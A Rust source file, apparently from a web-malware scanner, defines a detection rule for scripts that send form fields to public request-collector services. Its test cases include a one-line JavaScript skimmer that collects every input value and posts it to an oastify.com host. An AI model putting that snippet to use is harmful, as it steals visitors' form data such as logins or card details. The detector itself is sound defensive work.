//! `field-to-collector`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "field-to-collector",
    description: "The script sends form fields to a service that shows anyone the data it receives.",
    severity: Severity::High,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[one(&[Atom::FieldToDropBox]), one(&[Atom::Collector])],
    within: 1500,
    only_if: Some(shows_strangers),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var d={};f.querySelectorAll('input').forEach(i=>{d[i.name]=i.value});x.open('POST','http://a.oastify.com');x.send(JSON.stringify(d))",
        ],
        without: &[
            "fetch('https://formspree.io/f/abc',{method:'POST',body:new FormData(form)})",
            r#"f.onsubmit=()=>fetch('https://eo1.m.pipedream.net',{method:'POST',body:JSON.stringify({mail:f.mail.value})})"#,
        ],
    },
};

/// Whether it is not one where sites let a workflow run, or lessons have a server to try.
fn shows_strangers(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 0);
    near.places().any(|at| {
        let text = near.word(at);
        near.has_fact_in(at..at + 1, &[Atom::Collector])
            && !text.contains("pipedream.net")
            && !text.contains("beeceptor.com")
    }) || near.has_fact(&[Atom::SecretField, Atom::CardField, Atom::FieldQuery, Atom::KeyEvent])
}
